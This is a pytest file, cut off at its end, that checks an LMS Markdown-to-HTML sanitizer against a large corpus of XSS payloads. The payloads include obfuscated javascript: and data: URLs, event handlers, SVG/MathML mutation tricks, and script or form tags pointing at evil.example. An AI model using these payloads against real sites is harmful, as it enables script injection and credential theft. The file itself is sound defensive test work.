"""lms.markup: the one place where Markdown becomes HTML shown to people.

Pure unit tests (no app, no database). A hostile corpus is rendered and the output is parsed
with the standard library's `html.parser`; every result must be inert: no executable tag, no
event handler, no style, no `javascript:`/`vbscript:`/`data:` URL, no frame outside the
allow-listed video players, no DOM-clobbering id, no class outside the allow-list. The
expectations are written out here on purpose rather than imported from lms.markup, so that
loosening the module's allow-lists makes these tests fail.
"""

from __future__ import annotations

import re
import unicodedata
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest

from lms.markup import (
    is_local_reference,
    normalize_for_search,
    plain_text,
    render_markdown,
    video_embed_url,
)

YT_ID = "aqz-KE-bpKQ"
VIMEO_ID = "76979871"

# --------------------------------------------------------------------------------------------
# Parsing the output and checking that it is inert
# --------------------------------------------------------------------------------------------

Attrs = list[tuple[str, str | None]]


class TagCollector(HTMLParser):
    """Every start tag with its attributes (names lower-cased, values entity-decoded)."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, Attrs]] = []
        self.comments: list[str] = []
        self.declarations: list[str] = []

    def handle_starttag(self, tag: str, attrs: Attrs) -> None:
        self.tags.append((tag, attrs))

    def handle_startendtag(self, tag: str, attrs: Attrs) -> None:
        self.tags.append((tag, attrs))

    def handle_comment(self, data: str) -> None:
        self.comments.append(data)

    def handle_decl(self, decl: str) -> None:
        self.declarations.append(decl)

    def unknown_decl(self, data: str) -> None:
        self.declarations.append(data)

    def handle_pi(self, data: str) -> None:
        self.declarations.append(data)


def parse(html: str) -> TagCollector:
    collector = TagCollector()
    collector.feed(html)
    collector.close()
    return collector


def tags_named(html: str, name: str) -> list[dict[str, str | None]]:
    return [dict(attrs) for tag, attrs in parse(html).tags if tag == name]


FORBIDDEN_TAGS = frozenset({
    "script", "style", "object", "embed", "applet", "form", "input", "button", "select",
    "option", "textarea", "meta", "base", "link", "svg", "math", "template", "frame",
    "frameset", "noscript", "noembed", "noframes", "xmp", "plaintext", "isindex", "title",
    "html", "head", "body", "marquee", "param", "portal", "foreignobject", "animate", "set",
})
# Everything a lesson may legitimately contain; anything else in the output is a regression.
HARMLESS_TAGS = frozenset({
    "a", "abbr", "b", "blockquote", "br", "code", "dd", "del", "details", "div", "dl", "dt",
    "em", "figcaption", "figure", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "i", "iframe",
    "img", "ins", "kbd", "li", "mark", "ol", "p", "pre", "s", "samp", "small", "source", "span",
    "strong", "sub", "summary", "sup", "table", "tbody", "td", "tfoot", "th", "thead", "tr",
    "u", "ul", "video",
})
HARMLESS_ATTRIBUTES = frozenset({
    "href", "src", "poster", "title", "alt", "width", "height", "allowfullscreen", "controls",
    "type", "align", "colspan", "rowspan", "scope", "start", "class", "id",
})
URL_ATTRIBUTES = ("href", "src", "poster")
DANGEROUS_SCHEMES = ("javascript:", "vbscript:", "data:")
SAFE_SCHEMES = frozenset({"http", "https", "mailto"})
FRAME_HOSTS = frozenset({"www.youtube.com", "www.youtube-nocookie.com", "player.vimeo.com"})
HEADINGS = frozenset({"h1", "h2", "h3", "h4", "h5", "h6"})
CLASS_TOKEN = re.compile(r"^(language-[A-Za-z0-9_+-]+|video-embed|callout|callout-[a-z]+)$")
RAW_DANGEROUS_TAG = re.compile(
    r"<\s*/?\s*(script|style|svg|math|object|embed|iframe\s+srcdoc|template|base|meta|link)\b",
    re.IGNORECASE,
)


def compact_url(value: str) -> str:
    """The URL with every whitespace/control character removed, lower-cased (worst case)."""
    return "".join(
        ch for ch in value if not ch.isspace() and unicodedata.category(ch)[0] != "C"
    ).lower()


def browser_scheme(value: str) -> str:
    """The scheme a browser would see: C0/space trimmed, ASCII tab/newline removed."""
    url = value.strip("".join(chr(c) for c in range(0x21)))
    url = re.sub(r"[\t\n\r]", "", url)
    match = re.match(r"^([A-Za-z][A-Za-z0-9+.-]*):", url)
    return match.group(1).lower() if match else ""


def problems(html: str, *, forbid_alert_text: bool = True) -> list[str]:
    """Everything that makes `html` unsafe to show; empty when it is inert."""
    found: list[str] = []
    parsed = parse(html)
    if parsed.comments:
        found.append(f"comment survived: {parsed.comments!r}")
    if parsed.declarations:
        found.append(f"declaration/CDATA/PI survived: {parsed.declarations!r}")
    if RAW_DANGEROUS_TAG.search(html):
        found.append("raw dangerous tag text in the markup")
    for tag, attrs in parsed.tags:
        if tag in FORBIDDEN_TAGS:
            found.append(f"forbidden tag <{tag}>")
        elif tag not in HARMLESS_TAGS:
            found.append(f"unexpected tag <{tag}>")
        names = [name for name, _ in attrs]
        if len(names) != len(set(names)):
            found.append(f"<{tag}> has duplicate attributes {names}")
        for name, raw_value in attrs:
            value = raw_value or ""
            if name.startswith("on"):
                found.append(f"event handler {name} on <{tag}>")
            if name in {"style", "srcdoc", "formaction", "action", "srcset", "xlink:href"}:
                found.append(f"attribute {name} on <{tag}>")
            if name not in HARMLESS_ATTRIBUTES:
                found.append(f"unexpected attribute {name} on <{tag}>")
            if forbid_alert_text and "alert" in value.lower():
                found.append(f"'alert' inside {name}={value!r} on <{tag}>")
            if name in URL_ATTRIBUTES:
                if compact_url(value).startswith(DANGEROUS_SCHEMES):
                    found.append(f"dangerous URL {name}={value!r} on <{tag}>")
                scheme = browser_scheme(value)
                if scheme and scheme not in SAFE_SCHEMES:
                    found.append(f"scheme {scheme!r} in {name}={value!r} on <{tag}>")
            if name == "id" and (tag not in HEADINGS or not value.startswith("h-")):
                found.append(f"id={value!r} on <{tag}> (DOM clobbering)")
            if name == "class":
                bad = [c for c in value.split() if not CLASS_TOKEN.match(c)]
                if bad:
                    found.append(f"class {bad} on <{tag}>")
        if tag == "iframe":
            src = dict(attrs).get("src")
            if src is not None:
                parts = urlsplit(src)
                if parts.scheme != "https" or parts.netloc not in FRAME_HOSTS:
                    found.append(f"iframe src not an allow-listed player: {src!r}")
    return found


def assert_inert(html: str, *, forbid_alert_text: bool = True) -> None:
    found = problems(html, forbid_alert_text=forbid_alert_text)
    assert not found, f"unsafe output {html!r}: {found}"


# --------------------------------------------------------------------------------------------
# The checker itself must catch what it is meant to catch
# --------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "html",
    [
        "<script>x()</script>",
        "<p onclick=x()>a</p>",
        '<a href=" JaVa\tScRiPt:x()">a</a>',
        '<a href="&#106;avascript:x()">a</a>',
        '<img src="data:image/svg+xml;base64,AAAA">',
        '<a href="vbscript:x">a</a>',
        '<iframe src="https://evil.example/"></iframe>',
        '<iframe src="http://www.youtube.com/embed/x"></iframe>',
        '<iframe srcdoc="x"></iframe>',
        '<p style="color:red">a</p>',
        '<p id="csrf_token">a</p>',
        '<h2 id="csrf_token">a</h2>',
        '<p class="btn">a</p>',
        '<img title="alert(1)">',
        "<!-- x -->",
        "<svg></svg>",
        '<a href="livescript:x">a</a>',
    ],
)
def test_checker_rejects_unsafe_html(html):
    assert problems(html)


def test_checker_accepts_safe_html():
    assert_inert(
        '<h2 id="h-x">x</h2><p><a href="https://example.com/">a</a> <a href="#h-x">b</a></p>'
        '<pre><code class="language-python">x</code></pre>'
        f'<iframe src="https://www.youtube-nocookie.com/embed/{YT_ID}"></iframe>'
    )


# --------------------------------------------------------------------------------------------
# Hostile corpus: every payload must vanish (no executable content, no "alert" in attributes)
# --------------------------------------------------------------------------------------------

HOSTILE = [
    # <script> in many spellings and places
    ("script", "<script>alert(1)</script>"),
    ("script-upper", "<SCRIPT>alert(1)</SCRIPT>"),
    ("script-mixed", "<ScRiPt>alert(1)</sCrIpT>"),
    ("script-attrs", '<script type="text/javascript" src="https://evil.example/x.js"></script>'),
    ("script-src-only", '<script src="//evil.example/alert.js"></script>'),
    ("script-slash", "<script/xss src=//evil.example/alert.js></script>"),
    ("script-multiline", "<script\n  type='module'\n>\nalert(1)\n</script\n>"),
    ("script-split-block", "<script>\nalert(1)\n\n</script>"),
    ("script-inline", "Some text <script>alert(1)</script> more **text**."),
    ("script-nested", "<<script>script>alert(1)<</script>/script>"),
    ("script-table-cell", "| a | b |\n|---|---|\n| <script>alert(1)</script> | x |"),
    ("script-list", "- one\n- <script>alert(1)</script>\n- three"),
    ("script-ordered-list", "1. one\n2. <SCRIPT SRC=//evil.example/alert.js></SCRIPT>"),
    ("script-after-code", "```python\nprint(1)\n```\n<script>alert(1)</script>"),
    ("script-in-fence", "```html\n<script>alert(1)</script>\n```"),
    ("script-in-inline-code", "`<script>alert(1)</script>`"),
    ("script-blockquote", "> <script>alert(1)</script>"),
    ("script-in-link-text", "[<script>alert(1)</script>](https://example.com/)"),
    # event handlers on every plausible tag
    ("img-onerror", '<img src="x" onerror="alert(1)">'),
    ("img-onerror-unquoted", "<img src=x onerror=alert(1)//>"),
    ("img-onerror-eval", "<img src=x:alert(alt) onerror=eval(src) alt=0>"),
    ("img-onerror-entity", '<img src="x" onerror="&#97;lert(1)">'),
    ("img-onerror-markdown-html", "![ok](https://example.com/a.png)<img src=x ONERROR=alert(1)>"),
    ("svg-onload", '<svg onload="alert(1)"></svg>'),
    ("svg-slash-onload", "<svg/onload=alert(1)>"),
    ("body-onload", '<body onload="alert(1)">'),
    ("a-onmouseover", '<a href="https://example.com/" onmouseover="alert(1)">x</a>'),
    ("a-onfocus-autofocus", '<a href="https://example.com/" onfocus=alert(1) autofocus>x</a>'),
    ("a-hash-onclick", '<a href="#" onclick="alert(1)">click</a>'),
    ("details-ontoggle", '<details open ontoggle="alert(1)"><summary>s</summary>x</details>'),
    ("video-onerror", '<video src="/media/x.mp4" onerror="alert(1)"></video>'),
    ("source-onerror", '<video><source src="/media/x.mp4" onerror="alert(1)"></video>'),
    ("div-onclick", '<div onclick="alert(1)">x</div>'),
    ("p-onclick-upper", '<p ONCLICK="alert(1)">x</p>'),
    ("heading-onmouseover", "<h2 onmouseover=alert(1)>t</h2>"),
    ("iframe-onload", f'<iframe src="https://www.youtube.com/embed/{YT_ID}" onload="alert(1)">'
                      "</iframe>"),
    ("marquee-onstart", "<marquee onstart=alert(1)>x</marquee>"),
    ("input-onfocus", "<input autofocus onfocus=alert(1)>"),
    ("table-onmouseover", '<table onmouseover="alert(1)"><tr><td>x</td></tr></table>'),
    ("heading-raw-img", "## <img src=x onerror=alert(1)>"),
    # javascript: links, Markdown syntax
    ("md-js", "[x](javascript:alert(1))"),
    ("md-js-upper", "[x](JAVASCRIPT:alert(1))"),
    ("md-js-mixed", "[x](JaVaScRiPt:alert(1))"),
    ("md-js-leading-space", "[x]( javascript:alert(1))"),
    ("md-js-angle", "[x](<javascript:alert(1)>)"),
    ("md-js-title", '[x](javascript:alert(1) "title")'),
    ("md-js-tab", "[x](java\tscript:alert(1))"),
    ("md-js-newline", "[x](java\nscript:alert(1))"),
    ("md-js-entity-dec", "[x](&#106;avascript:alert(1))"),
    ("md-js-entity-hex", "[x](&#x6A;avascript:alert(1))"),
    ("md-js-entity-colon", "[x](javascript&#58;alert(1))"),
    ("md-js-urlencoded-colon", "[x](javascript%3Aalert(1))"),
    ("md-js-urlencoded-j", "[x](%6Aavascript:alert(1))"),
    ("md-js-image", "![x](javascript:alert(1))"),
    ("md-js-image-link", "[![i](https://example.com/a.png)](javascript:alert(1))"),
    ("md-vbscript", "[x](vbscript:alert(1))"),
    ("md-livescript", "[x](livescript:alert(1))"),
    # reference-style links
    ("ref-js", "[x][ref]\n\n[ref]: javascript:alert(1)"),
    ("ref-js-mixed-title", '[x][ref]\n\n[ref]: JavaScript:alert(1) "t"'),
    ("ref-js-angle", "[x]\n\n[x]: <javascript:alert(1)>"),
    ("ref-js-implicit", "[y][x] and [x]\n\n[x]: java\tscript:alert(1)"),
    ("ref-data", "[x][d]\n\n[d]: data:text/html,<script>alert(1)</script>"),
    ("ref-image-js", "![x][i]\n\n[i]: javascript:alert(1)"),
    # autolinks
    ("autolink-js", "<javascript:alert(1)>"),
    ("autolink-js-upper", "<JAVASCRIPT:alert(1)>"),
    ("autolink-vbscript", "<vbscript:alert(1)>"),
    ("autolink-data", "<data:text/html,alert(1)>"),
    # raw <a href> with obfuscations
    ("a-js", '<a href="javascript:alert(1)">x</a>'),
    ("a-js-upper", '<A HREF="JAVASCRIPT:alert(1)">x</A>'),
    ("a-js-single-quoted", "<a href='javascript:alert(1)'>x</a>"),
    ("a-js-unquoted", "<a href=javascript:alert(1)>x</a>"),
    ("a-js-leading-spaces", '<a href="   javascript:alert(1)">x</a>'),
    ("a-js-leading-control", '<a href="\x01javascript:alert(1)">x</a>'),
    ("a-js-nul", '<a href="java\x00script:alert(1)">x</a>'),
    ("a-js-tab", '<a href="java\tscript:alert(1)">x</a>'),
    ("a-js-newline", '<a href="java\nscript:alert(1)">x</a>'),
    ("a-js-tab-entity", '<a href="java&#9;script:alert(1)">x</a>'),
    ("a-js-newline-entity", '<a href="java&#10;script:alert(1)">x</a>'),
    ("a-js-hex-tab-entity", '<a href="jav&#x09;ascript:alert(1)">x</a>'),
    ("a-js-entity-dec", '<a href="&#106;avascript:alert(1)">x</a>'),
    ("a-js-entity-hex", '<a href="&#x6A;avascript:alert(1)">x</a>'),
    ("a-js-entity-hex-upper-x", '<a href="&#X6A;avascript:alert(1)">x</a>'),
    ("a-js-entity-padded", '<a href="&#0000106;&#0000097;vascript:alert(1)">x</a>'),
    ("a-js-entity-colon", '<a href="javascript&#x3A;alert(1)">x</a>'),
    ("a-js-nbsp", '<a href="\u00a0javascript:alert(1)">x</a>'),
    ("a-vbscript", '<a href="vbscript:alert(1)">x</a>'),
    ("a-vbscript-upper", '<a href="VBScript:alert(1)">x</a>'),
    # data: URLs on links and images
    ("md-data-html", "[x](data:text/html,<script>alert(1)</script>)"),
    ("md-data-html-b64", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    ("md-data-svg-img", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"),
    ("img-data-svg", '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'),
    ("img-data-svg-plain", '<img src="data:image/svg+xml,<svg onload=alert(1)>">'),
    ("a-data-upper", '<a href="DATA:text/html,alert(1)">x</a>'),
    ("a-data-space", '<a href=" data:text/html;base64,YWxlcnQoMSk=">x</a>'),
    ("video-poster-js", '<video src="/media/x.mp4" poster="javascript:alert(1)"></video>'),
    ("video-poster-data", '<video src="/media/x.mp4" poster="data:image/svg+xml,alert">'
                          "</video>"),
    ("video-src-js", '<video src="javascript:alert(1)"></video>'),
    ("source-src-data", '<video><source src="data:video/mp4;base64,alert"></video>'),
    ("img-srcset-js", '<img src="https://example.com/a.png" srcset="javascript:alert(1)">'),
    # frames from other hosts and look-alikes
    ("iframe-http-other", '<iframe src="http://evil.example/alert"></iframe>'),
    ("iframe-https-other", '<iframe src="https://evil.example/alert"></iframe>'),
    ("iframe-protocol-relative", '<iframe src="//evil.example/alert"></iframe>'),
    ("iframe-yt-suffix-host", f'<iframe src="https://youtube.com.evil.example/embed/{YT_ID}">'
                              "</iframe>"),
    ("iframe-www-yt-suffix-host", '<iframe src="https://www.youtube.com.evil.example/embed/'
                                  f'{YT_ID}"></iframe>'),
    ("iframe-yt-userinfo", f'<iframe src="https://www.youtube.com@evil.example/embed/{YT_ID}">'
                           "</iframe>"),
    ("iframe-yt-userinfo-entity", '<iframe src="https://www.youtube.com&#64;evil.example/embed/'
                                  f'{YT_ID}"></iframe>'),
    ("iframe-yt-backslash", f'<iframe src="https://www.youtube.com\\@evil.example/embed/{YT_ID}">'
                            "</iframe>"),
    ("iframe-yt-http", f'<iframe src="http://www.youtube.com/embed/{YT_ID}"></iframe>'),
    ("iframe-yt-protocol-relative", f'<iframe src="//www.youtube.com/embed/{YT_ID}"></iframe>'),
    ("iframe-yt-port", f'<iframe src="https://www.youtube.com:8443/embed/{YT_ID}"></iframe>'),
    ("iframe-vimeo-http", f'<iframe src="http://player.vimeo.com/video/{VIMEO_ID}"></iframe>'),
    ("iframe-yt-in-query", f'<iframe src="https://evil.example/?u=https://www.youtube.com/embed/'
                           f'{YT_ID}"></iframe>'),
    ("iframe-js", '<iframe src="javascript:alert(1)"></iframe>'),
    ("iframe-data", '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>'),
    ("iframe-srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    ("iframe-yt-srcdoc", f'<iframe src="https://www.youtube.com/embed/{YT_ID}" '
                         'srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'),
    ("iframe-content-script", "<iframe><script>alert(1)</script></iframe>"),
    ("iframe-content-breakout", "<iframe>&lt;/iframe&gt;<img src=x onerror=alert(1)></iframe>"),
    ("frameset", '<frameset><frame src="javascript:alert(1)"></frameset>'),
    # plugins, forms, document-level tags
    ("object-data", '<object data="https://evil.example/alert.swf"></object>'),
    ("object-js", '<object data="javascript:alert(1)"></object>'),
    ("embed", '<embed src="https://evil.example/alert.swf">'),
    ("embed-svg", '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'),
    ("applet", '<applet code="Alert.class" codebase="https://evil.example/"></applet>'),
    ("form", '<form action="https://evil.example/alert"><input name="password" type="password">'
             "<button>Log in</button></form>"),
    ("button-formaction", '<button formaction="javascript:alert(1)">go</button>'),
    ("input-formaction", '<input type="submit" formaction="javascript:alert(1)">'),
    ("isindex", "<isindex action=javascript:alert(1) type=image>"),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    ("base-href", '<base href="https://evil.example/">'),
    ("link-stylesheet", '<link rel="stylesheet" href="https://evil.example/alert.css">'),
    ("link-import", '<link rel="import" href="https://evil.example/alert.html">'),
    ("style-block", "<style>body{background:url(javascript:alert(1))}</style>"),
    ("style-import", "<style>@import 'https://evil.example/alert.css';</style>"),
    ("style-attr", '<p style="background:url(javascript:alert(1))">x</p>'),
    ("style-attr-overlay", '<span style="position:fixed;top:0;left:0">alert</span>'),
    ("img-style", '<img src="x" style="width:expression(alert(1))">'),
    ("img-style-clean-src", '<img src="https://example.com/a.png" style="display:none">'),
    # SVG and MathML
    ("svg-script", "<svg><script>alert(1)</script></svg>"),
    ("svg-foreignobject", '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>">'
                          "</iframe></foreignObject></svg>"),
    ("svg-xlink", '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'),
    ("svg-animate", '<svg><a><animate attributeName="href" values="javascript:alert(1)"/>'
                    "<text>x</text></a></svg>"),
    ("svg-use-data", '<svg><use href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"/>'
                     "</svg>"),
    ("math-xlink", '<math><mi xlink:href="javascript:alert(1)">x</mi></math>'),
    ("math-mxss", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    ("math-maction", '<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">'
                     "x</maction></math>"),
    # comments, CDATA, templates, raw-text elements
    ("comment-then-script", "<!-- --><script>alert(1)</script>"),
    ("comment-hiding-img", "<!--<img src=x onerror=alert(1)>-->"),
    ("comment-unclosed", "<!-- <img src=x onerror=alert(1)>"),
    ("comment-bogus-close", "<!--><img src=x onerror=alert(1)>-->"),
    ("conditional-comment", "<!--[if IE]><script>alert(1)</script><![endif]-->"),
    ("conditional-comment-img", "<!--[if gte IE 4]><img src=x onerror=alert(1)><![endif]-->"),
    ("downlevel-revealed", "<![if !IE]><script>alert(1)</script><![endif]>"),
    ("cdata", "<![CDATA[<script>alert(1)</script>]]>"),
    ("cdata-img", "<![CDATA[><img src=x onerror=alert(1)>]]>"),
    ("template", "<template><img src=x onerror=alert(1)></template>"),
    ("noscript-mxss", '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'),
    ("xmp", "<xmp><script>alert(1)</script></xmp>"),
    ("textarea", "<textarea><script>alert(1)</script></textarea>"),
    ("title-tag", "<title><script>alert(1)</script></title>"),
    ("noembed", "<noembed><img src=x onerror=alert(1)></noembed>"),
    ("plaintext", "<plaintext><script>alert(1)</script>"),
    ("processing-instruction", "<?xml-stylesheet href='https://evil.example/alert.xsl'?>"),
    ("doctype", "<!DOCTYPE html><html><head><script>alert(1)</script></head></html>"),
    # DOM clobbering and styling hooks
    ("id-csrf-heading", '<h2 id="csrf_token">x</h2>'),
    ("id-csrf-input", '<input id="csrf_token" name="csrf_token" value="x">'),
    ("id-name-img", '<img id="x" name="x" src="https://example.com/a.png">'),
    ("id-name-a", '<a id="defaultView" name="location" href="https://example.com/">x</a>'),
    ("id-form", '<form id="config" name="config"><output id="config" name="x"></output></form>'),
    ("id-div", '<div id="main-nav">x</div>'),
    ("id-span-prefixed", '<span id="h-fake">x</span>'),
    ("class-other", '<p class="btn btn-danger">x</p>'),
    ("class-div-other", '<div class="modal show">x</div>'),
    ("class-mixed", '<code class="language-python evil">x</code>'),
    ("class-span-admin", '<span class="hidden admin-only">x</span>'),
    ("target-rel", '<a href="https://example.com/" target="_blank" rel="opener">x</a>'),
    ("data-attributes", '<div data-bind="alert(1)" data-toggle="modal">x</div>'),
    ("aria-attributes", '<p aria-label="x" role="button" tabindex="0">x</p>'),
]

HOSTILE_PARAMS = [pytest.param(text, id=case_id) for case_id, text in HOSTILE]


def _fixed_resolver(url: str, is_media: bool) -> str:
    return "/courses/demo/files/resolved.png" if is_media else "/courses/demo/lessons/1"


def _hostile_resolver(url: str, is_media: bool) -> str:
    # A broken resolver must not defeat the cleaner: what it returns is still filtered.
    return "data:image/svg+xml,alert" if is_media else "javascript:alert(1)"


RESOLVERS = [
    pytest.param(None, id="no-resolver"),
    pytest.param(_fixed_resolver, id="fixed-resolver"),
    pytest.param(_hostile_resolver, id="hostile-resolver"),
]


def test_hostile_corpus_is_large_and_unique():
    ids = [case_id for case_id, _ in HOSTILE]
    assert len(ids) >= 40
    assert len(ids) == len(set(ids))


@pytest.mark.parametrize("resolve", RESOLVERS)
@pytest.mark.parametrize("text", HOSTILE_PARAMS)
def test_hostile_markdown_renders_inert(text, resolve):
    assert_inert(render_markdown(text, resolve))


@pytest.mark.parametrize("text", HOSTILE_PARAMS)
def test_hostile_markdown_inert_with_echoing_resolver(text):
    # Like the real resolver, this one builds its result from the reference as written, so a
    # harmless relative path may carry the payload text ("javascript%3Aalert(1)"): every
    # structural rule still applies, only the "alert" text rule is lifted.
    html = render_markdown(text, lambda url, is_media: "/courses/demo/files/" + url)
    assert_inert(html, forbid_alert_text=False)


# Hostile input whose remains are kept, but only as inert text in an attribute: the sanitizer
# escapes the "&" of entities it does not decode (so the browser does not decode them either,
# and the URL has no scheme), and quotes in titles/alt/autolinks are escaped. The payload text
# survives inside the attribute, so the "alert" text rule cannot apply to these; every other
# rule does, including "a browser sees no scheme but http, https or mailto".
INERT_TEXT_IN_ATTRIBUTES = [
    pytest.param('<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x'
                 "</a>", id="entities-without-semicolons"),
    pytest.param('<a href="javascript&colon;alert(1)">x</a>', id="named-colon-entity"),
    pytest.param('<a href="javascript&NewLine;:alert(1)">x</a>', id="named-newline-entity"),
    pytest.param('<a href="java&Tab;script:alert(1)">x</a>', id="named-tab-entity"),
    pytest.param('<a href="&#0;javascript:alert(1)">x</a>', id="nul-entity"),
    pytest.param('<a href="&amp;#106;avascript:alert(1)">x</a>', id="double-encoded-entity"),
    pytest.param('![" onerror="alert(1)](https://example.com/a.png)', id="alt-quote-breakout"),
    pytest.param('[x](https://example.com "t\\" onmouseover=\\"alert(1)")', id="title-breakout"),
    pytest.param('![x](https://example.com/a.png "t\\" onerror=\\"alert(1)")',
                 id="img-title-breakout"),
    pytest.param('<https://example.com/"onmouseover="alert(1)>', id="autolink-quote-breakout"),
    pytest.param("<https://example.com/'onmouseover='alert(1)>", id="autolink-apos-breakout"),
    pytest.param('<img alt="x&quot; onerror=&quot;alert(1)" src="https://example.com/a.png">',
                 id="raw-alt-entity-quotes"),
    # The script tag goes, its text stays, and the heading's slug is made of that text.
    pytest.param("## Title <script>alert(1)</script>", id="script-in-heading-slug"),
]


@pytest.mark.parametrize("resolve", RESOLVERS)
@pytest.mark.parametrize("text", INERT_TEXT_IN_ATTRIBUTES)
def test_inert_payload_text_in_attributes(text, resolve):
    html = render_markdown(text, resolve)
    assert_inert(html, forbid_alert_text=False)
    for tag, attrs in parse(html).tags:
        for name, value in attrs:
            if name in URL_ATTRIBUTES:
                assert browser_scheme(value or "") in SAFE_SCHEMES | {""}, (tag, name, value)


def test_entities_without_semicolons_do_not_smuggle_a_scheme():
    html = render_markdown('<a href="&#x6A&#x61&#x76&#x61;script:alert(1)">x</a>')
    # Decoded as a browser would ("javascript:"), the link loses its href entirely.
    (attrs,) = tags_named(html, "a")
    assert "href" not in attrs


def test_script_text_is_escaped_not_dropped_silently():
    html = render_markdown("before <script>alert(1)</script> after")
    assert "<script" not in html.lower()
    assert "before" in html and "after" in html


# --------------------------------------------------------------------------------------------
# Video sources: only the course's own files (app paths)
# --------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "src",
    [
        "https://evil.example/x.mp4",
        "http://evil.example/x.mp4",
        "//evil.example/x.mp4",
        "javascript:alert(1)",
        "x.mp4",
        "/\\evil.example/x.mp4",  # browsers read "/\\" as "//"
        "/&#47;evil.example/x.mp4",  # decodes to "//host"
        "/&#9;/evil.example/x.mp4",  # the tab is dropped: "//host"
    ],
)
@pytest.mark.parametrize("tag", ["video", "source"])
def test_video_sources_must_be_app_paths(tag, src):
    markup = f'<video src="{src}"></video>' if tag == "video" else \
        f'<video><source src="{src}" type="video/mp4"></video>'
    html = render_markdown(markup)
    assert_inert(html, forbid_alert_text=False)
    for attrs in tags_named(html, tag):
        value = attrs.get("src")
        if value is not None:
            # What a browser would request: tabs/newlines removed, "\" read as "/".
            as_browser = re.sub(r"[\t\n\r]", "", value).replace("\\", "/")
            assert as_browser.startswith("/") and not as_browser.startswith("//"), value


def test_video_from_course_files_survives():
    html = render_markdown(
        '<video src="/courses/demo/files/intro.mp4" controls '
        'poster="/courses/demo/files/poster.png"></video>'
    )
    assert_inert(html)
    (video,) = tags_named(html, "video")
    assert video["src"] == "/courses/demo/files/intro.mp4"
    assert video["poster"] == "/courses/demo/files/poster.png"
    assert "controls" in video


# --------------------------------------------------------------------------------------------
# Allowed content still works
# --------------------------------------------------------------------------------------------


def test_table_renders_with_header_and_cells():
    html = render_markdown("| Tier | Price |\n|------|------:|\n| Gold | 100 |\n| Silver | 50 |")
    assert_inert(html)
    parsed = [tag for tag, _ in parse(html).tags]
    assert "table" in parsed
    assert parsed.count("th") == 2
    assert parsed.count("td") == 4
    assert "<th>Tier</th>" in html
    assert "<td>Gold</td>" in html


def test_fenced_code_keeps_language_class():
    html = render_markdown("```python\nprint('<b>hi</b>')\n```")
    assert_inert(html)
    assert html.startswith('<pre><code class="language-python">')
    # Code is text: the HTML inside it is escaped, not rendered.
    assert "&lt;b&gt;" in html
    assert tags_named(html, "b") == []


@pytest.mark.parametrize(
    ("markdown_text", "tag", "expected_id"),
    [
        ("## Pricing and tiers", "h2", "h-pricing-and-tiers"),
        ("## 価格と構成", "h2", "h-価格と構成"),
        ("### Setup", "h3", "h-setup"),
        ("# Title", "h1", "h-title"),
    ],
)
def test_headings_get_prefixed_ids(markdown_text, tag, expected_id):
    html = render_markdown(markdown_text)
    assert_inert(html)
    (heading,) = tags_named(html, tag)
    assert heading["id"] == expected_id


def test_every_heading_id_is_prefixed():
    html = render_markdown("# a\n\n## csrf_token\n\n### next\n\n#### 価格\n\n##### five\n")
    assert_inert(html)
    ids = [dict(attrs).get("id") for tag, attrs in parse(html).tags if tag in HEADINGS]
    assert ids and all(i and i.startswith("h-") for i in ids)
    assert "h-csrf_token" in ids


def test_raw_heading_id_with_prefix_is_kept():
    html = render_markdown('<h2 id="h-intro">Intro</h2>')
    assert tags_named(html, "h2") == [{"id": "h-intro"}]


@pytest.mark.parametrize(
    "src",
    [
        f"https://www.youtube.com/embed/{YT_ID}",
        f"https://www.youtube-nocookie.com/embed/{YT_ID}",
        f"https://player.vimeo.com/video/{VIMEO_ID}",
    ],
)
def test_allow_listed_player_iframe_keeps_src(src):
    html = render_markdown(f'Watch:\n\n<iframe src="{src}" allowfullscreen></iframe>\n\nDone.')
    assert_inert(html)
    (iframe,) = tags_named(html, "iframe")
    assert iframe["src"] == src
    assert "allowfullscreen" in iframe


@pytest.mark.parametrize(
    "class_value",
    ["callout", "callout callout-warning", "video-embed", "language-js"],
)
def test_allow_listed_classes_survive(class_value):
    html = render_markdown(f'<div class="{class_value}">x</div>')
    assert_inert(html)
    assert tags_named(html, "div") == [{"class": class_value}]


def test_links_absolute_mailto_and_anchor_stay():
    html = render_markdown(
        "[site](https://example.com/path?q=1) [mail](mailto:partners@example.com) "
        "[plain](http://example.com/) [here](#h-pricing)"
    )
    assert_inert(html)
    hrefs = [a.get("href") for a in tags_named(html, "a")]
    assert hrefs == [
        "https://example.com/path?q=1",
        "mailto:partners@example.com",
        "http://example.com/",
        "#h-pricing",
    ]


def test_absolute_https_image_stays():
    html = render_markdown('![diagram](https://example.com/d.png "The diagram")')
    assert tags_named(html, "img") == [
        {"alt": "diagram", "src": "https://example.com/d.png", "title": "The diagram"}
    ]


def test_relative_link_goes_through_resolver():
    calls: list[tuple[str, bool]] = []

    def resolve(url: str, is_media: bool) -> str:
        calls.append((url, is_media))
        return "/courses/demo/lessons/2"

    html = render_markdown("[next](02-next.md)", resolve)
    assert_inert(html)
    assert calls == [("02-next.md", False)]
    assert tags_named(html, "a") == [{"href": "/courses/demo/lessons/2"}]


def test_relative_image_goes_through_resolver_as_media():
    calls: list[tuple[str, bool]] = []

